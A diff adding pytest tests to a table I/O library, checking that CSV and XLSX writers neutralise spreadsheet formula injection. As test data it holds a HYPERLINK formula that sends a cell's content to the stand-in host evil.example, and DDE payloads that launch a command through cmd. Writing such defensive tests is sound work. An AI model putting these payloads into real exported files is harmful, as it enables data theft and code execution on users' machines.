@@ -222,3 +222,36 @@ def test_csv_fast_path_reads_the_same_table_as_the_csv_module(tmp_path):
     wider_later = tmp_path / "wider.csv"  # a row wider than the first 30: the csv-module path
     wider_later.write_text("id,name,lon,lat\n" + "1,a,1,2\n" * 40 + "2,b,3,4,5\n", encoding="utf-8")
     assert lio.read_table(wider_later).shape == (41, 5)
+
+
+_EVIL = '=HYPERLINK("http://evil.example/?"&A1,"点击")'
+
+
+@pytest.mark.parametrize("suffix", [".csv", ".xlsx"])
+def test_written_text_never_runs_as_a_spreadsheet_formula(tmp_path, households, suffix):
+    frame = households.copy()
+    frame.loc[frame.index[0], "address"] = _EVIL
+    frame.loc[frame.index[1], "address"] = "@SUM(1+1)*cmd|' /C calc'!A0"
+    path = lio.write_layer(frame, tmp_path / f"h{suffix}")
+    if suffix == ".xlsx":
+        ws = openpyxl.load_workbook(path).active
+        column = [c.value for c in ws[1]].index("address") + 1
+        cells = [ws.cell(row=r, column=column) for r in (2, 3)]
+        assert [c.data_type for c in cells] == ["s", "s"]  # text, not a formula ("f")
+        values = [c.value for c in cells]
+        lon = ws.cell(row=2, column=[c.value for c in ws[1]].index("lon") + 1).value
+        assert isinstance(lon, float)  # numbers stay numbers
+    else:
+        rows = list(csv.DictReader(stdlib_io.StringIO(path.read_text(encoding="utf-8-sig"))))
+        values = [rows[0]["address"], rows[1]["address"]]
+    assert values == ["'" + _EVIL, "'@SUM(1+1)*cmd|' /C calc'!A0"]
+
+
+def test_datum_conversion_output_never_runs_formulas(tmp_path):
+    source = tmp_path / "in.csv"
+    pd.DataFrame({"name": ["-1+cmd|' /C calc'!A0", "正常"], "lon": [106.2, 106.3], "lat": [29.6, 29.7],
+                  "elevation": ["-12.5", "300"]}).to_csv(source, index=False)  # fmt: skip
+    target = tmp_path / "out.xlsx"
+    assert lio.convert_datum_file(source, target, src="gcj02", dst="wgs84") == 2
+    ws = openpyxl.load_workbook(target).active
+    assert [ws["A2"].value, ws["A2"].data_type, ws["D2"].value] == ["'-1+cmd|' /C calc'!A0", "s", "-12.5"]
